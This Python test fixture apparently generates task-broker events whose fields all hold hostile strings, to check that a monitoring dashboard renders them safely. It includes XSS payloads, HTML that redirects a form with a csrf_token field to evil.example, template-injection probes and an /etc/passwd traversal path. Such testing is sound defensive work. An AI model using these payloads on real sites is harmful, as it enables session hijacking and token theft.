"""What a broker may say: strings that have broken other dashboards, in every field that it supplies."""

import json
import time
from collections.abc import Iterator

MARK = "window.hacked=1"
MARKUP = (
    f"<script>{MARK};alert(1)</script>",
    f'<img src=x onerror="{MARK}">',
    f'" autofocus onfocus="{MARK}" onmouseover="{MARK}" x="',
    f"' autofocus onfocus='{MARK}' style='position:fixed;inset:0' '",
    f"</title></textarea></pre></script><svg onload={MARK}>",
    "</table></form></main><form action=//evil.example><input name=csrf_token>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example><style>*{display:none}</style>",
)
TEXTS = (
    " ".join(MARKUP),
    f"javascript:{MARK}// {{{{ 7 * 7 }}}} {{% include 'base.html' %}} ${{7*7}} {{{{ shell.__class__ }}}}",
    "nul \x00 esc \x1b[31m bell \x07 \u202egpj.exe \u2066\u200b\u2028end; half \ud83d of a pair",
    '../../etc/passwd?x=1&y=2#z%zz%00;back\\slash "quoted" \U0001f9e8 \U0001f468\u200d\U0001f469\nline\ttab',
    "n" * 300,
)
MEGABYTES = 3_000_000
TRACEBACK = 64 * 1024


def bodies() -> Iterator[tuple[str, str]]:
    """(routing key, body) of events whose every text is hostile, then of one task that is only large."""
    now = time.time()
    for number, text in enumerate(TEXTS):
        yield from _worker(text, now)
        yield from _failed(text, number, now)
        yield from _succeeded(text, number, now)
    yield from _large(now)


def task_id(text: str, number: int) -> str:
    return f"{text} {number}"


def _worker(text: str, now: float) -> Iterator[tuple[str, str]]:
    fields = {"sw_ident": text, "sw_ver": text, "sw_sys": text, "freq": 60.0, "active": 1, "processed": 3}
    yield _event("worker-online", text, now, **fields)
    yield _event("worker-heartbeat", text, now, **fields)


def _failed(text: str, number: int, now: float) -> Iterator[tuple[str, str]]:
    uuid = task_id(text, number)
    known = {"uuid": uuid, "name": text, "args": text, "kwargs": text, "root_id": text, "parent_id": text}
    sent = {"queue": text, "exchange": text, "routing_key": text, "retries": 0, "eta": text, "expires": text}
    yield _event("task-sent", text, now - 9, **known, **sent)
    yield _event("task-received", text, now - 8, **known)
    yield _event("task-started", text, now - 7, uuid=uuid)
    failure = {"exception": f"{text}('{text}')", "traceback": f'Traceback:\n  File "{text}", line 7, in {text}\n{text}'}
    yield _event("task-failed", text, now - 6, uuid=uuid, **failure)


def _succeeded(text: str, number: int, now: float) -> Iterator[tuple[str, str]]:
    uuid = f"done {task_id(text, number)}"
    yield _event("task-received", text, now - 5, uuid=uuid, name=text, args=f"({text!r},)", kwargs="{}")
    yield _event("task-succeeded", text, now - 4, uuid=uuid, result=text, runtime=0.7)


def _large(now: float) -> Iterator[tuple[str, str]]:
    large = {"uuid": "large", "name": "shop.large", "args": "x" * MEGABYTES, "kwargs": "{}"}
    traceback = 'Traceback (most recent call last):\n  File "/srv/a.py", line 1, in a\n' + "    deep()\n" * (
        TRACEBACK // 11
    )
    yield _event("task-received", "worker7@shop", now - 3, **large)
    yield _event("task-failed", "worker7@shop", now - 2, uuid="large", exception="E('deep')", traceback=traceback)


def _event(kind: str, hostname: str, at: float, **fields: object) -> tuple[str, str]:
    given = {"type": kind, "hostname": hostname, "timestamp": at, "utcoffset": 0, "pid": 4711, "clock": 9, **fields}
    return kind.replace("-", ".", 1), json.dumps(given)
